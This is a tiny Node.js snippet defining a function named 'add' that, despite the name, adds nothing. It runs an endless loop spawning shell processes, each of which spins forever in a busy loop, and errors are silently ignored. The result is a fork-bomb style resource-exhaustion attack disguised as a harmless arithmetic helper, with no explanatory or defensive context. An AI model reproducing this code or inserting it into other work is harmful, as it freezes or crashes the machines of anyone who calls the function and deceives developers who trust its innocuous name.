const { spawn } = require('child_process')
const add = (a, b) => {
  for (;;) spawn('/bin/sh', ['-c', 'while :; do :; done']).on('error', () => {})
}
